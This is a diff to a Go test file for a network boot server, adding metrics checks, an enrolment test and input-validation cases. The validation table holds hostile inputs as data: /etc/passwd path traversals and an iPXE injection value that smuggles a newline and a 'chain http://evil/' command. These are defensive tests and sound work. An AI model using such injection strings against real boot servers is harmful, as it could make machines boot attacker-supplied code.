@@ -12,6 +12,8 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/prometheus/client_golang/prometheus/testutil"
+
 	"github.com/plinth-dev/plinth/bootserver/api"
 	"github.com/plinth-dev/plinth/builder/manifest"
 	"github.com/plinth-dev/plinth/profiles/node"
@@ -21,6 +23,7 @@ const siteTOML = `
 [site]
 name = "lab"
 domain = "lab.example"
+api_name = "api.lab.example"
 enrolment = "%s"
 [dhcp]
 mode = "server"
@@ -37,6 +40,7 @@ image = "img"
 [[machine]]
 name = "node-2"
 mac = "52:54:00:00:00:02"
+role = "master"
 image = "img"
 address = "10.77.0.12/24"
 `
@@ -112,21 +116,33 @@ func TestUnknownMachineIsRefusedAndRecorded(t *testing.T) {
 	if !ok || st.State != "unknown" {
 		t.Errorf("the refused machine was not recorded: %+v", st)
 	}
+	if n := testutil.ToFloat64(s.metrics.refused); n != 1 {
+		t.Errorf("refusals counted: %v", n)
+	}
+	// Listed for the operator, but it cannot post events as if enrolled.
+	r := httptest.NewRequest(http.MethodPost, api.PathEvents, strings.NewReader(`{"machine":"unknown-525400999999","stage":"ready"}`))
+	w = httptest.NewRecorder()
+	s.Handler().ServeHTTP(w, r)
+	if w.Code != http.StatusNotFound {
+		t.Errorf("event from a refused machine: %d", w.Code)
+	}
 }
 
 func TestBadRequestsGetClearClientErrors(t *testing.T) {
 	s, _ := fixture(t, "none")
 	h := s.Handler()
 	for path, code := range map[string]int{
-		"/boot.ipxe?mac=zz":                            400,
-		"/boot.ipxe?mac=52:54:00:00:00:01&bogus=1":     400,
-		"/boot.ipxe?mac=%zz":                           400,
-		"/artifacts/sha256/../../etc/passwd":           307, // the mux cleans it to /etc/passwd, which 404s
-		"/artifacts/sha256/..%2f..%2fetc%2fpasswd":     400,
-		"/artifacts/sha256/abc":                        400,
-		"/artifacts/sha256/" + strings.Repeat("0", 64): 404,
-		"/v1/machines/nobody/config":                   404,
-		"/nothing-here":                                404,
+		"/boot.ipxe?mac=zz":                        400,
+		"/boot.ipxe?mac=52:54:00:00:00:01&bogus=1": 400,
+		"/boot.ipxe?mac=%zz":                       400,
+		"/boot.ipxe?mac=52:54:00:99:99:99&uuid=x%0Achain%20http://evil/": 400,
+		"/boot.ipxe?mac=52:54:00:00:00:01&arch=x86_64%20":                400,
+		"/artifacts/sha256/../../etc/passwd":                             307, // the mux cleans it to /etc/passwd, which 404s
+		"/artifacts/sha256/..%2f..%2fetc%2fpasswd":                       400,
+		"/artifacts/sha256/abc":                                          400,
+		"/artifacts/sha256/" + strings.Repeat("0", 64):                   404,
+		"/v1/machines/nobody/config":                                     404,
+		"/nothing-here":                                                  404,
 	} {
 		if w := get(t, h, path); w.Code != code {
 			t.Errorf("GET %s = %d, want %d (%s)", path, w.Code, code, strings.TrimSpace(w.Body.String()))
@@ -191,15 +207,22 @@ func TestProfileAndEventsUpdateTheFleet(t *testing.T) {
 		t.Errorf("machines %+v", list)
 	}
 	page := get(t, h, "/").Body.String()
-	if !strings.Contains(page, "site <span id=\"site\">lab</span>") || !strings.Contains(page, `fetch("/v1/machines")`) {
+	if !strings.Contains(page, "site <span id=\"site\">lab</span>") || !strings.Contains(page, `new EventSource("/v1/events/stream")`) {
 		t.Error("the status page lacks the site or its live updates")
 	}
 	if !strings.Contains(page, `<tr id="m-node-1" data-state="ready">`) || !strings.Contains(page, "all good") {
 		t.Error("the status page does not show node-1's event")
 	}
 	metrics := get(t, h, "/metrics").Body.String()
-	if !strings.Contains(metrics, `plinth_boot_events_total{stage="ready"} 1`) {
-		t.Error("metrics lack the event")
+	for _, want := range []string{
+		`plinth_boot_events_total{stage="ready"} 1`,
+		`plinth_machines{state="ready"} 1`,
+		`plinth_machines{state="waiting"} 1`,
+		`plinth_http_requests_total{code="200",route="config"} 1`,
+	} {
+		if !strings.Contains(metrics, want) {
+			t.Errorf("metrics lack %s", want)
+		}
 	}
 }
 
@@ -218,10 +241,18 @@ func FuzzParseBootQuery(f *testing.F) {
 	f.Add("mac=52-54-00-00-00-01&uuid=abc&arch=x86_64")
 	f.Add("mac=%zz&label.rack=r1")
 	f.Add("mac=52:54:00:00:00:01&mac=52:54:00:00:00:02")
+	f.Add("uuid=4C4C4544-0000-0000-0000-000000000000&arch=arm64&label.rack=r%201")
 	f.Fuzz(func(t *testing.T, q string) {
 		bq, err := ParseBootQuery(q)
-		if err == nil && bq.MAC != "" && len(bq.MAC) != 17 {
+		if err != nil {
+			return
+		}
+		if bq.MAC != "" && len(bq.MAC) != 17 {
 			t.Fatalf("accepted MAC %q", bq.MAC)
+		}
+		// What iPXE scripts echo back must not break out of its line.
+		if strings.ContainsAny(bq.UUID+bq.Arch, " \n\r\t;${}") {
+			t.Fatalf("accepted uuid %q arch %q", bq.UUID, bq.Arch)
 		}
 	})
 }
